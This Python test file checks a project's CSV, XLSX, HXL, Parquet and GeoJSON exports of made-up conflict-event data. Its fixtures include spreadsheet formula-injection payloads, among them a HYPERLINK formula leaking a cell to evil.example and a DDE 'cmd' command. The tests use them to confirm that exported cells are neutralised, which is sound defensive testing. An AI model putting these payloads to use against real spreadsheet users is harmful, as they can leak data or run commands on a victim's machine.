"""Each format is read back by another library than the one that wrote it."""

import csv
import json
from dataclasses import replace
from datetime import date, datetime, timedelta
from io import BytesIO, StringIO
from typing import Any
from zipfile import ZipFile

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.dossier.printed import same_print
from wordkept.dossier.exports import EXPORTS
from wordkept.dossier.exports.csv_tables import written
from wordkept.dossier.exports.export import Export, Material
from wordkept.dossier.exports.table import HARMFUL_FIRST, Column, neutral, table
from wordkept.dossier.exports.tables import tables
from wordkept.dossier.exports.xlsx_tables import CUT, MOST_CHARACTERS
from wordkept.dossier.publish import shown, shown_case
from wordkept.dossier.report import CaseReport
from wordkept.errors import WordkeptError
from wordkept.model import Assessment, Event
from wordkept.period import Period

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)", "\t=1+1", " =1+1", "＝1+1",  # noqa: RUF001 - the wide form is what is meant
)  # fmt: skip
PLACE = 'Karst, "upper"\nvillage'
DAY = date(2032, 4, 1)


def event(row: int, **more: object) -> Event:
    made = Event(
        row=row, native_id=f"e{row}", dataset="lethal", period=Period(DAY, DAY), place=PLACE,
        admin1="Karst", admin2=None, country="Vale", lat=-33.5, lon=18.25, radius_km=1.0,
        event_type="armed violence", native_type="state-based", side_a="Northland", side_b="Vale",
        deaths_low=1, deaths_best=2, deaths_high=None, events_best=1, reference="\u202egnol\u202c",
    )  # fmt: skip
    return replace(made, **more)  # type: ignore[arg-type]


EVENTS = (
    *(event(row, place=text, side_a=text, reference=text) for row, text in enumerate(FORMULAS)),
    event(20, lat=None, lon=None, radius_km=None),
    event(21, radius_km=60.0),
    event(22, radius_km=None),
    event(23, period=Period(DAY, DAY + timedelta(days=2))),
)


@pytest.fixture(scope="module")
def material(report: CaseReport) -> Material:
    return Material(report=report, shown=shown_case(report), rows={"lethal": EVENTS})


def exported(name: str, material: Material) -> bytes:
    return next(one for one in EXPORTS if one.name == name).write(material)


def unzipped(content: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def as_written(cell: object) -> str:
    """A cell as CSV holds it."""
    if cell is None:
        return ""
    if isinstance(cell, date):
        return cell.isoformat()
    return neutral(cell) if isinstance(cell, str) else repr(cell)


@pytest.mark.parametrize("one", EXPORTS, ids=lambda one: one.name)
def test_the_same_case_gives_the_same_bytes(material: Material, one: Export) -> None:
    try:
        first = one.write(material)
    except WordkeptError as error:
        pytest.skip(f"{one.name} cannot be written on this machine: {error.problems[0].what}")
    again = one.write(material)
    assert same_print(first, again) if one.name == "pdf" else again == first


def test_each_format_says_what_it_holds_and_what_it_cannot_carry() -> None:
    assert len({one.name for one in EXPORTS}) == len({one.file_name for one in EXPORTS})
    for one in EXPORTS:
        assert one.holds.endswith("."), one.name
        assert one.leaves_out, one.name
        assert all(sentence.endswith(".") for sentence in one.leaves_out), one.name


def test_the_tables_hold_what_is_shown(material: Material) -> None:
    made = {one.name: one for one in tables(material)}
    assert list(made) == ["verdicts", "quotes", "levels", "weeks", "records", "rows"]
    assert [row[0] for row in made["verdicts"].rows] == [one.id for one in material.shown]
    assert len(made["levels"].rows) == sum(len(one.levels) for one in material.shown)
    assert len(made["rows"].rows) == len(EVENTS)
    assert "[U+202E]" in str(made["rows"].rows[-1][-1])


def test_csv_is_read_back_as_it_was(material: Material) -> None:
    files = unzipped(exported("csv", material))
    for one in tables(material):
        content = files[f"{one.name}.csv"]
        assert content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))
        assert rows[0] == [column.name for column in one.columns]
        assert rows[1:] == [[as_written(cell) for cell in row] for row in one.rows]


def test_no_csv_cell_is_a_formula_and_negative_numbers_are_numbers(material: Material) -> None:
    content = unzipped(exported("csv", material))["rows.csv"].decode("utf-8-sig")
    rows = list(csv.DictReader(StringIO(content, newline="")))
    assert rows[0]["place"] == "'" + FORMULAS[0]
    for row in rows:
        for name, cell in row.items():
            assert name in {"lat", "lon"} or cell.strip()[:1] not in set(HARMFUL_FIRST), name
    assert float(rows[0]["lat"]) == -33.5
    assert rows[-1]["place"] == PLACE


@given(st.text())
@settings(max_examples=30)
def test_a_text_is_neutral_and_comes_back(text: str) -> None:
    column = Column(name="words", kind="text", tag="#description", of=lambda value: value)
    made = table("words", "Words.", (column,), [text])
    (said,) = list(csv.reader(StringIO(written(made).decode("utf-8-sig"), newline="")))[1:]
    (cell,) = said or [""]
    assert cell[:1] not in set(HARMFUL_FIRST) or not cell
    assert cell.lstrip()[:1] not in set(HARMFUL_FIRST) or not cell.strip()
    assert cell in (made.rows[0][0], f"'{made.rows[0][0]}")


@pytest.fixture(scope="module")
def book(material: Material) -> Any:
    import openpyxl

    return openpyxl.load_workbook(BytesIO(exported("xlsx", material)))


def test_a_workbook_is_read_back_as_it_was(material: Material, book: Any) -> None:
    assert book.sheetnames == ["read me", *(one.name for one in tables(material))]
    for one in tables(material):
        rows = list(book[one.name].iter_rows(values_only=True))
        assert rows[0] == tuple(column.name for column in one.columns)
        assert len(rows) == len(one.rows) + 1
        for found, row in zip(rows[1:], one.rows, strict=True):
            for cell, meant in zip(found, row, strict=True):
                if isinstance(meant, str):
                    assert (cell or "") == neutral(meant)
                elif isinstance(meant, date):
                    assert cell == datetime(meant.year, meant.month, meant.day)  # noqa: DTZ001
                else:
                    assert cell == meant or (cell is not None and abs(cell - meant) < 1e-12)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(book: Any) -> None:
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert not [text for text in texts if text.strip()[:1] in set(HARMFUL_FIRST)]
    assert "'" + FORMULAS[0] in texts


def test_the_first_sheet_says_on_whose_terms(material: Material, book: Any) -> None:
    said = "\n".join(str(row[0]) for row in book["read me"].iter_rows(values_only=True))
    for one in material.shown:
        assert all(text in said for text in one.withheld)
        assert all(record.citation in said for record in one.records)
    assert "grid of 25 km" in said


def test_a_cell_that_holds_no_more_says_so(report: CaseReport) -> None:
    import openpyxl

    long = Material(report=report, shown=(), rows={"lethal": (event(1, place="x" * 40_000),)})
    sheet = openpyxl.load_workbook(BytesIO(exported("xlsx", long)))["rows"]
    found = next(cell.value for cell in sheet[2] if str(cell.value).startswith("xxx"))
    assert len(found) == MOST_CHARACTERS
    assert found.endswith(CUT)


def hxl_faults(content: bytes) -> tuple[list[str], list[str]]:
    """The hashtags that HXL's own library reads in a file, and its schema's errors."""
    import hxl

    rows = list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))[:150]
    with hxl.data(hxl.input.ArrayInput(rows)) as read:
        tags = [column.display_tag for column in read.columns]
        faults: list[Any] = []
        hxl.schema(callback=faults.append).validate(read)
    return tags, [str(one.rule.tag_pattern) for one in faults if one.rule.severity == "error"]


def test_hxl_is_read_and_validated_by_its_own_library(material: Material) -> None:
    files = unzipped(exported("hxl", material))
    for one in tables(material):
        tags, errors = hxl_faults(files[f"{one.name}.hxl.csv"])
        assert [set(tag.split("+")) for tag in tags] == [
            set(column.tag.split("+")) for column in one.columns
        ]
        assert errors == [], one.name


def test_its_library_finds_what_is_no_date(material: Material) -> None:
    content = unzipped(exported("hxl", material))["rows.hxl.csv"]
    assert set(hxl_faults(content.replace(b"2032-04-01", b"in spring"))[1]) == {"#date"}


def test_parquet_is_read_back_with_its_terms(material: Material) -> None:
    files = unzipped(exported("parquet", material))
    for one in tables(material):
        found = pq.read_table(BytesIO(files[f"{one.name}.parquet"]))
        assert found.column_names == [column.name for column in one.columns]
        rows = [tuple(row.values()) for row in found.to_pylist()]
        assert rows == list(one.rows)
        said = found.schema.metadata
        assert "made up, free to use" in json.loads(said[b"licence"])["lethal"]
        assert "Lethal Events Dataset (2034)" in json.loads(said[b"citation"])["lethal"]


def test_geojson_draws_a_point_only_where_the_place_is_known(material: Material) -> None:
    found = json.loads(exported("geojson", material))
    assert found["type"] == "FeatureCollection"
    features = found["features"]
    assert len(features) == len(EVENTS)
    assert features[0]["geometry"] == {"type": "Point", "coordinates": [18.25, -33.5]}
    assert features[0]["properties"]["radius_km"] == 1.0
    blank = [one for one in features if one["geometry"] is None]
    assert [one["properties"]["native_id"] for one in blank] == ["e20", "e21", "e22"]
    assert "60 km" in blank[1]["properties"]["no_point"]
    assert all("lat" not in one["properties"] for one in features)
    assert [one["pledge"] for one in found["wordkept"]["verdicts"]] == [
        one.id for one in material.shown
    ]


def test_ranges_are_left_out_where_a_level_is_withheld(
    report: CaseReport, withdrawn: Assessment
) -> None:
    small = tuple(replace(one, window_events=2) for one in withdrawn.estimates)
    hidden = replace(withdrawn, estimates=small)
    for assessment, known in ((withdrawn, True), (hidden, False)):
        made = tables(Material(report=report, shown=(shown(assessment),), rows={}))[0]
        cells = dict(zip((one.name for one in made.columns), made.rows[0], strict=True))
        assert (cells["level_low"] is not None) is known
        assert (cells["ordinary_high"] is not None) is known


def test_a_receipt_of_totals_does_not_tell_of_few_rows(withdrawn: Assessment) -> None:
    """That one row carries half of the deaths nearly says how many it holds."""

    def receipts(half: int) -> str:
        harm = withdrawn.releases[0]
        told = replace(harm, receipt=replace(harm.receipt, half_the_deaths_rows=half))
        return " ".join(shown(replace(withdrawn, releases=(told,))).records[0].receipt)

    assert "carry half" not in receipts(2)
    assert "3 rows carry half" in receipts(3)


def test_an_empty_case_is_written_too(report: CaseReport) -> None:
    bare = Material(report=replace(report, assessments=()), shown=(), rows={})
    for name in ("csv", "xlsx", "hxl", "parquet", "geojson"):
        assert exported(name, bare)
